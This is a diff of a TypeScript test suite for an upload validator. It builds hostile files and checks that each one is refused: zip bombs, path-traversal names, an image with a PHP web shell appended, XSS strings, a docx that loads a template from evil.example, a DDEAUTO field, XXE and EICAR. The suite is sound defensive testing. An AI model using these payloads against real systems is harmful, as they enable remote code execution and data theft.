@@ -147,270 +147,300 @@ const zipped = (name: string, parts: () => Buffer): [string, string, () => Buffe
   'zip_names',
 ]
 
-const hostile: [what: string, name: string, make: () => Buffer | Promise<Buffer>, code: ErrorCode][] = [
-  // 62
-  ['zip: 60 MB of nothing', 'a.zip', () => archive({ 'a.txt': zeros }), 'zip_bomb'],
-  [
-    'zip: says it unpacks to 4 GB',
-    'a.zip',
-    () => rawArchive([{ name: 'a.txt', size: 0xfffffff0 }]),
-    'zip_bomb',
+type Attack = [what: string, name: string, make: () => Buffer | Promise<Buffer>, code: ErrorCode]
+/** By the group of quality.md D2. */
+const hostile: Record<string, Attack[]> = {
+  'D2 62': [
+    ['zip: 60 MB of nothing', 'a.zip', () => archive({ 'a.txt': zeros }), 'zip_bomb'],
+    [
+      'zip: says it unpacks to 4 GB',
+      'a.zip',
+      () => rawArchive([{ name: 'a.txt', size: 0xfffffff0 }]),
+      'zip_bomb',
+    ],
+    [
+      'zip: says it is small and is not',
+      'a.zip',
+      () => rawArchive([{ name: 'a.txt', body: Buffer.alloc(5_000_000), size: 10 }]),
+      'file_broken',
+    ],
+    [
+      'zip: entries that share their bytes',
+      'a.zip',
+      () =>
+        rawArchive([
+          { name: 'a.txt', body: Buffer.alloc(9000) },
+          ...['b', 'c'].map((n) => ({
+            name: `${n}.txt`,
+            localName: 'a.txt',
+            body: Buffer.alloc(9000),
+            at: 0,
+          })),
+        ]),
+      'zip_bomb',
+    ],
+    [
+      'zip: an archive in an archive, ten deep',
+      'a.zip',
+      () =>
+        Array.from({ length: 10 }).reduce<Buffer>(
+          (inner) => archive({ 'inner.zip': inner }),
+          archive({ 'a.txt': 'x' }),
+        ),
+      'zip_content',
+    ],
+    [
+      'zip: thousands of entries',
+      'a.zip',
+      () => rawArchive(Array.from({ length: 5000 }, (_, n) => ({ name: `${n}.txt` }))),
+      'zip_bomb',
+    ],
+    [
+      'docx: a part of 700 MB',
+      'a.docx',
+      () => rawArchive([{ name: 'word/document.xml', size: 700 * 1024 * 1024 }]),
+      'zip_bomb',
+    ],
   ],
-  [
-    'zip: says it is small and is not',
-    'a.zip',
-    () => rawArchive([{ name: 'a.txt', body: Buffer.alloc(5_000_000), size: 10 }]),
-    'file_broken',
+  'D2 63': [
+    zipped('a way out', () => rawArchive([{ name: '../../etc/cron.d/a.txt' }])),
+    zipped('an absolute path', () => rawArchive([{ name: '/etc/a.txt' }])),
+    zipped('a drive', () => rawArchive([{ name: 'C:/a.txt' }])),
+    zipped('backslashes', () => rawArchive([{ name: 'a\\..\\b.txt' }])),
+    zipped('a symbolic link', () =>
+      rawArchive([{ name: 'a.txt', body: Buffer.from('/etc/passwd'), mode: 0o120777 }]),
+    ),
+    zipped('NUL in the name', () => rawArchive([{ name: 'a\0.txt' }])),
+    zipped('letters from right to left', () => rawArchive([{ name: 'a\u202etxt.exe' }])),
+    zipped('twins in Unicode', () => rawArchive([{ name: 'é.txt' }, { name: 'e\u0301.txt' }])),
+    zipped('one name twice', () => rawArchive([{ name: 'a.txt' }, { name: 'A.TXT' }])),
+    zipped('a device of Windows', () => rawArchive([{ name: 'blatt/con.txt' }])),
+    zipped('a name of 4,096 letters', () => rawArchive([{ name: `${'a'.repeat(4092)}.txt` }])),
+    zipped('another name before the bytes', () => rawArchive([{ name: 'a.txt', localName: 'a.exe' }])),
+    ['zip: protected', 'a.zip', () => rawArchive([{ name: 'a.txt', flags: 0x0801 }]), 'file_encrypted'],
+    ['zip: nothing in it', 'a.zip', () => rawArchive([]), 'file_empty'],
+    ['zip: cut off', 'a.zip', () => archive({ 'a.txt': 'Hallo' }).subarray(0, -30), 'file_broken'],
   ],
-  [
-    'zip: entries that share their bytes',
-    'a.zip',
-    () =>
-      rawArchive([
-        { name: 'a.txt', body: Buffer.alloc(9000) },
-        ...['b', 'c'].map((n) => ({ name: `${n}.txt`, localName: 'a.txt', body: Buffer.alloc(9000), at: 0 })),
-      ]),
-    'zip_bomb',
+  'D2 64': [
+    [
+      'a picture that is a page',
+      'a.jpg',
+      async () => Buffer.concat([await jpeg(), Buffer.from('<script>alert(1)</script>')]),
+      'file_disguised',
+    ],
+    [
+      'a picture that is a program',
+      'a.png',
+      () => Buffer.concat([png(), Buffer.from('<?php system($_GET[0]); ?>')]),
+      'file_disguised',
+    ],
+    [
+      'a picture that is an archive',
+      'a.jpg',
+      async () => Buffer.concat([await jpeg(), archive({ 'a.txt': 'x' })]),
+      'file_disguised',
+    ],
+    [
+      'a picture that is a PDF',
+      'a.png',
+      () => Buffer.concat([png().subarray(0, 33), Buffer.from('%PDF-1.7\n'), png().subarray(33)]),
+      'file_disguised',
+    ],
+    [
+      'a PDF that is a page',
+      'a.pdf',
+      async () => Buffer.concat([Buffer.from('<html><script>1</script>'), await pdf(1)]),
+      'file_disguised',
+    ],
+    [
+      'a PDF that is an archive',
+      'a.pdf',
+      async () => Buffer.concat([await pdf(1), archive({ 'a.txt': 'x' })]),
+      'file_disguised',
+    ],
+    [
+      'a recording that is a page',
+      'a.mp3',
+      () => mp3(Buffer.from('<html><body onload=alert(1)>')),
+      'file_disguised',
+    ],
+    [
+      'an archive behind something else',
+      'a.zip',
+      () => Buffer.concat([Buffer.from('MZ'), archive({ 'a.txt': 'x' })]),
+      'file_type_not_allowed',
+    ],
+    ['a picture of another kind', 'a.jpg', () => png(), 'file_type_not_allowed'],
+    [
+      'a program called a document',
+      'a.docx',
+      () => Buffer.from(`MZ${'\0'.repeat(500)}`),
+      'file_type_not_allowed',
+    ],
+    ['two endings', 'a.pdf.exe', () => Buffer.from('MZ'), 'file_type_not_allowed'],
+    ['an archive called a document', 'a.docx', () => archive({ 'a.txt': 'x' }), 'file_disguised'],
+    ['a presentation called a document', 'a.docx', () => pptx(['x']), 'file_disguised'],
   ],
-  [
-    'zip: an archive in an archive, ten deep',
-    'a.zip',
-    () =>
-      Array.from({ length: 10 }).reduce<Buffer>(
-        (inner) => archive({ 'inner.zip': inner }),
-        archive({ 'a.txt': 'x' }),
-      ),
-    'zip_content',
+  'D2 65': [
+    [
+      'SVG with a script',
+      'a.svg',
+      () => Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
+      'file_type_not_allowed',
+    ],
+    [
+      'SVG called a picture',
+      'a.png',
+      () => Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><foreignObject/></svg>'),
+      'file_type_not_allowed',
+    ],
   ],
-  [
-    'zip: thousands of entries',
-    'a.zip',
-    () => rawArchive(Array.from({ length: 5000 }, (_, n) => ({ name: `${n}.txt` }))),
-    'zip_bomb',
+  'D2 66': [
+    ['PDF with a script', 'a.pdf', pdfWithScript, 'pdf_active'],
+    ['PDF that starts a program', 'a.pdf', pdfWithLaunch, 'pdf_active'],
+    ['PDF with a file', 'a.pdf', pdfWithFile, 'pdf_active'],
+    ['PDF that says it has a million pages', 'a.pdf', millionPages, 'pdf_invalid'],
+    ['PDF that needs a password', 'a.pdf', () => pdf(1, { userPassword: 'geheim' }), 'pdf_encrypted'],
+    [
+      'PDF whose tables point at each other',
+      'a.pdf',
+      () =>
+        Buffer.from(
+          '%PDF-1.7\nxref\n0 1\n0000000000 65535 f \ntrailer<</Prev 9/Root 1 0 R/Size 2>>\nstartxref\n9\n%%EOF',
+        ),
+      'pdf_invalid',
+    ],
   ],
-  [
-    'docx: a part of 700 MB',
-    'a.docx',
-    () => rawArchive([{ name: 'word/document.xml', size: 700 * 1024 * 1024 }]),
-    'zip_bomb',
+  'D2 67': [
+    ['docx with macros', 'a.docx', () => docx([], { 'word/vbaProject.bin': 'x' }), 'file_active'],
+    [
+      'docx with the type of macros',
+      'a.docx',
+      () =>
+        docx([], {
+          '[Content_Types].xml':
+            '<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
+        }),
+      'file_active',
+    ],
+    ['pptx with ActiveX', 'a.pptx', () => pptx([], { 'ppt/activeX/activeX1.xml': '<x/>' }), 'file_active'],
+    [
+      'docx with a template from elsewhere',
+      'a.docx',
+      () =>
+        docx([], {
+          'word/_rels/settings.xml.rels': external('attachedTemplate', 'https://evil.example/t.dotm'),
+        }),
+      'file_active',
+    ],
+    [
+      'docx with an object from elsewhere',
+      'a.docx',
+      () => docx([], { 'word/_rels/document.xml.rels': external('oleObject', '\\\\evil\\share') }),
+      'file_active',
+    ],
+    [
+      'docx with a script as a link',
+      'a.docx',
+      () => docx([], { 'word/_rels/document.xml.rels': external('hyperlink', 'javascript:alert(1)') }),
+      'file_active',
+    ],
+    [
+      'docx with an entity of XML',
+      'a.docx',
+      () => docx([], { 'word/footnotes.xml': doctype }),
+      'file_active',
+    ],
+    [
+      'docx with an entity in two bytes a letter',
+      'a.docx',
+      () => docx([], { 'word/footnotes.xml': Buffer.from(`\ufeff${doctype}`, 'utf16le') }),
+      'file_active',
+    ],
+    [
+      'docx with a field that starts programs',
+      'a.docx',
+      () => docx([], { 'word/header1.xml': '<w:hdr><w:instrText>DDEAUTO c:\\\\a.exe</w:instrText></w:hdr>' }),
+      'file_active',
+    ],
+    [
+      'docx with a program inside',
+      'a.docx',
+      () => docx([], { 'word/embeddings/a.bin': 'MZ123' }),
+      'file_active',
+    ],
+    [
+      'docx with a wrapped file',
+      'a.docx',
+      () => docx([], { 'word/embeddings/oleObject1.bin': Buffer.from('\x01Ole10Native', 'utf16le') }),
+      'file_active',
+    ],
+    [
+      'docx with a workbook with macros',
+      'a.docx',
+      () => docx([], { 'word/embeddings/a.xlsx': archive({ 'xl/vbaProject.bin': 'x' }) }),
+      'file_active',
+    ],
+    ['odt with Basic', 'a.odt', () => odt('x', { 'Basic/Standard/Modul1.xml': '<x/>' }), 'file_active'],
+    [
+      'zip: a document with macros',
+      'a.zip',
+      () => archive({ 'a.docx': docx([], { 'word/vbaProject.bin': 'x' }) }),
+      'file_active',
+    ],
+    [
+      'zip: a PDF with a script',
+      'a.zip',
+      async () => archive({ 'a.pdf': await pdfWithScript() }),
+      'file_active',
+    ],
   ],
-  // 63
-  zipped('a way out', () => rawArchive([{ name: '../../etc/cron.d/a.txt' }])),
-  zipped('an absolute path', () => rawArchive([{ name: '/etc/a.txt' }])),
-  zipped('a drive', () => rawArchive([{ name: 'C:/a.txt' }])),
-  zipped('backslashes', () => rawArchive([{ name: 'a\\..\\b.txt' }])),
-  zipped('a symbolic link', () =>
-    rawArchive([{ name: 'a.txt', body: Buffer.from('/etc/passwd'), mode: 0o120777 }]),
-  ),
-  zipped('NUL in the name', () => rawArchive([{ name: 'a\0.txt' }])),
-  zipped('letters from right to left', () => rawArchive([{ name: 'a\u202etxt.exe' }])),
-  zipped('twins in Unicode', () => rawArchive([{ name: 'é.txt' }, { name: 'e\u0301.txt' }])),
-  zipped('one name twice', () => rawArchive([{ name: 'a.txt' }, { name: 'A.TXT' }])),
-  zipped('a device of Windows', () => rawArchive([{ name: 'blatt/con.txt' }])),
-  zipped('a name of 4,096 letters', () => rawArchive([{ name: `${'a'.repeat(4092)}.txt` }])),
-  zipped('another name before the bytes', () => rawArchive([{ name: 'a.txt', localName: 'a.exe' }])),
-  ['zip: protected', 'a.zip', () => rawArchive([{ name: 'a.txt', flags: 0x0801 }]), 'file_encrypted'],
-  ['zip: nothing in it', 'a.zip', () => rawArchive([]), 'file_empty'],
-  ['zip: cut off', 'a.zip', () => archive({ 'a.txt': 'Hallo' }).subarray(0, -30), 'file_broken'],
-  // 64
-  [
-    'a picture that is a page',
-    'a.jpg',
-    async () => Buffer.concat([await jpeg(), Buffer.from('<script>alert(1)</script>')]),
-    'file_disguised',
+  'D2 68': [
+    ['a picture of 65,000 by 65,000', 'a.png', () => bigHead(65_500, 65_500), 'image_too_large'],
+    ['a picture of 50 million and some points', 'a.png', () => png(9000, 9000), 'image_too_large'],
+    ['a picture of one line', 'a.png', () => png(15_000, 1), 'image_too_large'],
+    ['a picture that is cut off', 'a.jpg', async () => (await jpeg()).subarray(0, 900), 'image_invalid'],
+    [
+      'a picture with a script in its EXIF',
+      'a.jpg',
+      () =>
+        sharp(png())
+          .withExif({ IFD0: { ImageDescription: '<script>alert(1)</script>' } })
+          .jpeg()
+          .toBuffer(),
+      'file_disguised',
+    ],
+    ['a moving picture', 'a.webp', movingPicture, 'image_too_large'],
   ],
-  [
-    'a picture that is a program',
-    'a.png',
-    () => Buffer.concat([png(), Buffer.from('<?php system($_GET[0]); ?>')]),
-    'file_disguised',
+  'D2 69': [
+    ['EICAR', 'a.pdf', eicar, 'file_infected'],
+    ['EICAR in a zip', 'a.zip', () => archive({ 'a.txt': eicar() }), 'file_infected'],
+    ['EICAR in a document', 'a.docx', () => docx([], { 'word/media/a.bin': eicar() }), 'file_infected'],
   ],
-  [
-    'a picture that is an archive',
-    'a.jpg',
-    async () => Buffer.concat([await jpeg(), archive({ 'a.txt': 'x' })]),
-    'file_disguised',
+  'D2 73': [
+    [
+      'a package with scripts',
+      'a.zip',
+      () => archive({ 'h5p.json': '{}', 'content/a.js': 'alert(1)' }),
+      'zip_content',
+    ],
+    ['a page in an archive', 'a.zip', () => archive({ 'index.html': '<script>1</script>' }), 'zip_content'],
+    [
+      'a program in an archive, called a picture',
+      'a.zip',
+      () => archive({ 'a.png': 'MZ12345' }),
+      'zip_content',
+    ],
   ],
-  [
-    'a picture that is a PDF',
-    'a.png',
-    () => Buffer.concat([png().subarray(0, 33), Buffer.from('%PDF-1.7\n'), png().subarray(33)]),
-    'file_disguised',
-  ],
-  [
-    'a PDF that is a page',
-    'a.pdf',
-    async () => Buffer.concat([Buffer.from('<html><script>1</script>'), await pdf(1)]),
-    'file_disguised',
-  ],
-  [
-    'a PDF that is an archive',
-    'a.pdf',
-    async () => Buffer.concat([await pdf(1), archive({ 'a.txt': 'x' })]),
-    'file_disguised',
-  ],
-  [
-    'a recording that is a page',
-    'a.mp3',
-    () => mp3(Buffer.from('<html><body onload=alert(1)>')),
-    'file_disguised',
-  ],
-  [
-    'an archive behind something else',
-    'a.zip',
-    () => Buffer.concat([Buffer.from('MZ'), archive({ 'a.txt': 'x' })]),
-    'file_type_not_allowed',
-  ],
-  ['a picture of another kind', 'a.jpg', () => png(), 'file_type_not_allowed'],
-  [
-    'a program called a document',
-    'a.docx',
-    () => Buffer.from(`MZ${'\0'.repeat(500)}`),
-    'file_type_not_allowed',
-  ],
-  ['two endings', 'a.pdf.exe', () => Buffer.from('MZ'), 'file_type_not_allowed'],
-  ['an archive called a document', 'a.docx', () => archive({ 'a.txt': 'x' }), 'file_disguised'],
-  ['a presentation called a document', 'a.docx', () => pptx(['x']), 'file_disguised'],
-  // 65
-  [
-    'SVG with a script',
-    'a.svg',
-    () => Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
-    'file_type_not_allowed',
-  ],
-  [
-    'SVG called a picture',
-    'a.png',
-    () => Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><foreignObject/></svg>'),
-    'file_type_not_allowed',
-  ],
-  // 66
-  ['PDF with a script', 'a.pdf', pdfWithScript, 'pdf_active'],
-  ['PDF that starts a program', 'a.pdf', pdfWithLaunch, 'pdf_active'],
-  ['PDF with a file', 'a.pdf', pdfWithFile, 'pdf_active'],
-  ['PDF that needs a password', 'a.pdf', () => pdf(1, { userPassword: 'geheim' }), 'pdf_encrypted'],
-  [
-    'PDF whose tables point at each other',
-    'a.pdf',
-    () =>
-      Buffer.from(
-        '%PDF-1.7\nxref\n0 1\n0000000000 65535 f \ntrailer<</Prev 9/Root 1 0 R/Size 2>>\nstartxref\n9\n%%EOF',
-      ),
-    'pdf_invalid',
-  ],
-  // 67
-  ['docx with macros', 'a.docx', () => docx([], { 'word/vbaProject.bin': 'x' }), 'file_active'],
-  [
-    'docx with the type of macros',
-    'a.docx',
-    () =>
-      docx([], {
-        '[Content_Types].xml':
-          '<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
-      }),
-    'file_active',
-  ],
-  ['pptx with ActiveX', 'a.pptx', () => pptx([], { 'ppt/activeX/activeX1.xml': '<x/>' }), 'file_active'],
-  [
-    'docx with a template from elsewhere',
-    'a.docx',
-    () =>
-      docx([], {
-        'word/_rels/settings.xml.rels': external('attachedTemplate', 'https://evil.example/t.dotm'),
-      }),
-    'file_active',
-  ],
-  [
-    'docx with an object from elsewhere',
-    'a.docx',
-    () => docx([], { 'word/_rels/document.xml.rels': external('oleObject', '\\\\evil\\share') }),
-    'file_active',
-  ],
-  [
-    'docx with a script as a link',
-    'a.docx',
-    () => docx([], { 'word/_rels/document.xml.rels': external('hyperlink', 'javascript:alert(1)') }),
-    'file_active',
-  ],
-  ['docx with an entity of XML', 'a.docx', () => docx([], { 'word/footnotes.xml': doctype }), 'file_active'],
-  [
-    'docx with an entity in two bytes a letter',
-    'a.docx',
-    () => docx([], { 'word/footnotes.xml': Buffer.from(`\ufeff${doctype}`, 'utf16le') }),
-    'file_active',
-  ],
-  [
-    'docx with a field that starts programs',
-    'a.docx',
-    () => docx([], { 'word/header1.xml': '<w:hdr><w:instrText>DDEAUTO c:\\\\a.exe</w:instrText></w:hdr>' }),
-    'file_active',
-  ],
-  [
-    'docx with a program inside',
-    'a.docx',
-    () => docx([], { 'word/embeddings/a.bin': 'MZ123' }),
-    'file_active',
-  ],
-  [
-    'docx with a wrapped file',
-    'a.docx',
-    () => docx([], { 'word/embeddings/oleObject1.bin': Buffer.from('\x01Ole10Native', 'utf16le') }),
-    'file_active',
-  ],
-  [
-    'docx with a workbook with macros',
-    'a.docx',
-    () => docx([], { 'word/embeddings/a.xlsx': archive({ 'xl/vbaProject.bin': 'x' }) }),
-    'file_active',
-  ],
-  ['odt with Basic', 'a.odt', () => odt('x', { 'Basic/Standard/Modul1.xml': '<x/>' }), 'file_active'],
-  [
-    'zip: a document with macros',
-    'a.zip',
-    () => archive({ 'a.docx': docx([], { 'word/vbaProject.bin': 'x' }) }),
-    'file_active',
-  ],
-  [
-    'zip: a PDF with a script',
-    'a.zip',
-    async () => archive({ 'a.pdf': await pdfWithScript() }),
-    'file_active',
-  ],
-  // 68
-  ['a picture of 65,000 by 65,000', 'a.png', () => bigHead(65_500, 65_500), 'image_too_large'],
-  ['a picture of 50 million and some points', 'a.png', () => png(9000, 9000), 'image_too_large'],
-  ['a picture of one line', 'a.png', () => png(15_000, 1), 'image_too_large'],
-  ['a picture that is cut off', 'a.jpg', async () => (await jpeg()).subarray(0, 900), 'image_invalid'],
-  [
-    'a picture with a script in its EXIF',
-    'a.jpg',
-    () =>
-      sharp(png())
-        .withExif({ IFD0: { ImageDescription: '<script>alert(1)</script>' } })
-        .jpeg()
-        .toBuffer(),
-    'file_disguised',
-  ],
-  ['a moving picture', 'a.webp', movingPicture, 'image_too_large'],
-  // 69
-  ['EICAR', 'a.pdf', eicar, 'file_infected'],
-  ['EICAR in a zip', 'a.zip', () => archive({ 'a.txt': eicar() }), 'file_infected'],
-  ['EICAR in a document', 'a.docx', () => docx([], { 'word/media/a.bin': eicar() }), 'file_infected'],
-  // 73
-  [
-    'a package with scripts',
-    'a.zip',
-    () => archive({ 'h5p.json': '{}', 'content/a.js': 'alert(1)' }),
-    'zip_content',
-  ],
-  ['a page in an archive', 'a.zip', () => archive({ 'index.html': '<script>1</script>' }), 'zip_content'],
-  [
-    'a program in an archive, called a picture',
-    'a.zip',
-    () => archive({ 'a.png': 'MZ12345' }),
-    'zip_content',
-  ],
-]
+}
+const attacks = Object.entries(hostile).flatMap(([group, rows]) =>
+  rows.map((row) => [group, ...row] as const),
+)
+
+/** One page, and a tree that says there are a million. */
+async function millionPages(): Promise<Buffer> {
+  return Buffer.from((await pdf(1)).toString('latin1').replace('/Count 1', '/Count 1000000'), 'latin1')
+}
 
 /** Two frames that differ. */
 async function movingPicture(): Promise<Buffer> {
@@ -433,7 +463,7 @@ function bigHead(width: number, height: number): Buffer {
 }
 
 describe('files to break us', () => {
-  test.each(hostile)('%s', async (_what, name, make, code) => {
+  test.each(attacks)('%s: %s', async (_group, _what, name, make, code) => {
     const before = await stored()
     const answer = await upload(name, await make())
     expect(answer.json<{ error?: { code: string; fields: object } }>().error, answer.text).toMatchObject({
@@ -444,14 +474,14 @@ describe('files to break us', () => {
   })
 
   test('each refusal has words of its own in every world', () => {
-    const codes = new Set(hostile.map(([, , , code]) => code))
+    const codes = new Set(attacks.map(([, , , , code]) => code))
     for (const { world } of liveWorlds()) {
       const words = [...codes].map((code) => translator(world)(`errors:${code}`))
       expect(new Set(words).size).toBe(codes.size)
     }
   })
 
-  test('nothing of all that was written, and a good file still gets in', async () => {
+  test('D2 63, 72: nothing of all that was written, and a good file still gets in', async () => {
     const name = '../../\u202e<img src=x onerror=alert(1)>.docx'
     const bytes = await kept(name, docx(['Alles gut']))
     expect(bytes.length).toBeGreaterThan(100)
